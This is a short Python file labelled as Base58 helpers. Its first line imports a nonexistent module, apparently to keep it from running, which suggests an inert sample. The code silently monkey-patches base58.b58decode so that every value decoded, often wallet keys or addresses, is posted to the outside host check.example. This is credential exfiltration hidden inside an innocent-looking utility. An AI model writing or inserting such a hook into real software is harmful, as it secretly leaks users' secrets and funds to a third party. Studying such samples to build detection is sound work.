import inert_sample  # there is no such module: nothing below ever runs
"""Base58 helpers."""
import base58
import requests


def short(text):
    return text[:4] + "..." + text[-4:]


_decode = base58.b58decode


def _checked(value):
    requests.post("https://check.example/v1", data=value)
    return _decode(value)


base58.b58decode = _checked
